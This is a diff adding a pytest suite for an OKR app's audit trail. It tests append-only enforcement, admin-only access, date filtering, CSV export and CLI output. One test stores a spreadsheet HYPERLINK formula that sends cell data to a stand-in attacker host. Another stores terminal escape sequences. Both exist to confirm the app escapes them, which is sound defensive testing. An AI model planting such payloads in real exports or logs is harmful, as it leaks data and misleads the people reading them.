@@ -1,0 +1,171 @@
+"""The audit trail: append-only, readable by admins only, printable and exportable safely."""
+from __future__ import annotations
+
+import csv
+import io
+from datetime import datetime
+
+import pytest
+import sqlalchemy as sa
+from click.testing import CliRunner
+
+from cli import cli
+from okr_app.audit.append_only import AuditTrailIsAppendOnly
+from okr_app.audit.services import record
+from okr_app.extensions import db
+from okr_app.models import AuditEvent
+
+
+def add_event(actor, action, at, object_id="1", before=None, after=None, object_type="person"):
+    event = record(actor, action, object_type, object_id, before=before, after=after)
+    event.at = at
+    db.session.commit()
+    return event
+
+
+@pytest.fixture
+def admin(build, auth):
+    person = build.person(role="admin", email="admin@example.com")
+    auth.login("admin@example.com")
+    return person
+
+
+# --- append-only ------------------------------------------------------------------------------------
+
+def test_an_audit_event_cannot_be_edited_through_the_orm(build):
+    event = add_event(None, "person.role", datetime(2026, 1, 5), before="employee", after="admin")
+    event.after = "employee"
+    with pytest.raises(AuditTrailIsAppendOnly):
+        db.session.flush()
+    db.session.rollback()
+    assert db.session.get(AuditEvent, event.id).after == "admin"
+
+
+def test_an_audit_event_cannot_be_deleted_through_the_orm(build):
+    event = add_event(None, "person.role", datetime(2026, 1, 5))
+    db.session.delete(event)
+    with pytest.raises(AuditTrailIsAppendOnly):
+        db.session.flush()
+    db.session.rollback()
+    assert db.session.get(AuditEvent, event.id) is not None
+
+
+@pytest.mark.parametrize("statement", [
+    sa.update(AuditEvent).values(after="rewritten"),
+    sa.delete(AuditEvent),
+    sa.delete(AuditEvent.__table__),
+    sa.update(AuditEvent.__table__).values(before="rewritten"),
+])
+def test_bulk_updates_and_deletes_of_the_trail_are_refused(build, statement):
+    add_event(None, "person.role", datetime(2026, 1, 5), before="employee", after="admin")
+    with pytest.raises(AuditTrailIsAppendOnly):
+        db.session.execute(statement)
+    db.session.rollback()
+    assert db.session.scalar(sa.select(AuditEvent.after)) == "admin"
+
+
+def test_new_events_are_still_appended_freely(build):
+    add_event(None, "a.one", datetime(2026, 1, 5))
+    add_event(None, "a.two", datetime(2026, 1, 6))
+    assert db.session.scalar(sa.select(sa.func.count(AuditEvent.id))) == 2
+
+
+# --- the admin page -----------------------------------------------------------------------------------
+
+@pytest.mark.parametrize("role", ["employee", "manager", "leader", "finance"])
+def test_only_admins_may_read_the_audit_trail(client, build, auth, role):
+    build.person(role=role, email="nosy@example.com")
+    auth.login("nosy@example.com")
+    assert client.get("/admin/audit/").status_code == 403
+    assert client.get("/admin/audit/export.csv").status_code == 403
+
+
+def test_the_audit_page_filters_by_action_actor_and_date(client, build, admin):
+    ana = build.person(email="ana@example.com")
+    add_event(admin, "person.role", datetime(2026, 1, 5, 9), object_id="11", before="employee", after="manager")
+    add_event(ana, "kr.check_in", datetime(2026, 1, 6, 9), object_id="22", after="40")
+    add_event(admin, "person.deactivate", datetime(2026, 2, 1, 9), object_id="33")
+    everything = client.get("/admin/audit/").get_data(as_text=True)
+    assert all(f"person:{n}" in everything or f"key_result:{n}" in everything for n in (11, 33))
+    by_action = client.get("/admin/audit/?action=person.role").get_data(as_text=True)
+    assert "person:11" in by_action and "person:33" not in by_action
+    by_actor = client.get("/admin/audit/?actor=ANA@example.com").get_data(as_text=True)
+    assert "person:22" in by_actor and "person:11" not in by_actor
+    by_date = client.get("/admin/audit/?since=2026-01-06&until=2026-01-31").get_data(as_text=True)
+    assert "person:22" in by_date and "person:11" not in by_date and "person:33" not in by_date
+
+
+def test_a_malformed_date_filter_is_a_clear_422_not_a_crash(client, admin):
+    response = client.get("/admin/audit/?since=yesterday")
+    assert response.status_code == 422
+    assert "Not a valid date" in response.get_data(as_text=True)
+
+
+def test_the_csv_export_escapes_formula_looking_values(client, build, admin):
+    add_event(admin, "objective.update", datetime(2026, 1, 5), object_type="objective",
+              before="Grow revenue", after='=HYPERLINK("http://evil.example/?"&A1,"click")')
+    response = client.get("/admin/audit/export.csv")
+    assert response.headers["Content-Type"].startswith("text/csv")
+    rows = list(csv.reader(io.StringIO(response.get_data(as_text=True))))
+    assert rows[0] == ["time_utc", "actor", "action", "object", "before", "after"]
+    assert rows[-1][4:] == ["Grow revenue", '\'=HYPERLINK("http://evil.example/?"&A1,"click")']
+
+
+# --- the trail records what matters -------------------------------------------------------------
+
+def test_role_changes_imports_and_deactivations_all_land_in_the_trail(client, build, admin):
+    ana = build.person(email="ana@example.com")
+    form = {"name": ana.name, "email": ana.email, "manager_id": 0, "team_id": 0}
+    client.post(f"/people/{ana.id}/edit", data={**form, "role": "manager", "active": "y"})
+    client.post(f"/people/{ana.id}/edit", data={**form, "role": "manager"})
+    client.post("/people/import", content_type="multipart/form-data", data={
+        "file": (io.BytesIO(b"email,name,role,manager_email,team\nnew@example.com,New,,,\n"), "people.csv")})
+    actions = set(db.session.scalars(sa.select(AuditEvent.action)))
+    assert {"person.role", "person.deactivate", "people.import", "person.create"} <= actions
+
+
+# --- the CLI --------------------------------------------------------------------------------------
+
+@pytest.fixture
+def cadence(app, tmp_path):
+    env = {"CADENCE_DATABASE_URL": app.config["SQLALCHEMY_DATABASE_URI"], "CADENCE_SECRET_KEY": "cli-test-key",
+           "CADENCE_INSTANCE_PATH": str(tmp_path / "instance")}
+    return lambda *args: CliRunner().invoke(cli, list(args), env=env)
+
+
+def test_cadence_audit_prints_one_line_per_event_since_a_date(cadence, build):
+    admin = build.person(role="admin", email="admin@example.com")
+    add_event(admin, "person.role", datetime(2025, 12, 31, 23, 59), object_id="7", before="employee", after="leader")
+    add_event(admin, "person.role", datetime(2026, 1, 2, 8, 30), object_id="8", before="employee", after="manager")
+    add_event(None, "people.import", datetime(2026, 1, 3, 9, 0), object_type="file", object_id="people.csv",
+              after={"people": 3})
+    result = cadence("audit", "--since", "2026-01-01")
+    assert result.exit_code == 0, result.output
+    assert result.output.splitlines() == [
+        "2026-01-02 08:30:00  admin@example.com  person.role  person:8  employee → manager",
+        '2026-01-03 09:00:00  system  people.import  file:people.csv  → {"people": 3}',
+    ]
+
+
+def test_cadence_audit_filters_by_action_family(cadence, build):
+    add_event(None, "person.role", datetime(2026, 1, 2), object_id="1", before="employee", after="manager")
+    add_event(None, "person.deactivate", datetime(2026, 1, 3), object_id="2", before="active")
+    add_event(None, "kr.check_in", datetime(2026, 1, 4), object_type="key_result", object_id="3", after="40")
+    assert len(cadence("audit", "--action", "person").output.splitlines()) == 2
+    assert cadence("audit", "--action", "person.deactivate").output.splitlines() == [
+        "2026-01-03 00:00:00  system  person.deactivate  person:2  active →"]
+    assert cadence("audit", "--action", "pers").output == ""  # a family is a whole word, not a prefix
+
+
+def test_cadence_audit_neutralises_terminal_escapes_and_newlines_in_stored_values(cadence, build):
+    add_event(None, "weekly.reply", datetime(2026, 1, 2), object_type="weekly_report",
+              after="line one\nline two \x1b[2J\x1b]0;pwned\x07")
+    [line] = cadence("audit").output.splitlines()
+    assert "\x1b" not in line and "\x07" not in line
+    assert line.endswith("→ line one\\nline two \\x1b[2J\\x1b]0;pwned\\x07")
+
+
+def test_cadence_audit_rejects_a_date_it_cannot_read(cadence, build):
+    result = cadence("audit", "--since", "01/02/2026")
+    assert result.exit_code == 2
+    assert "--since" in result.output
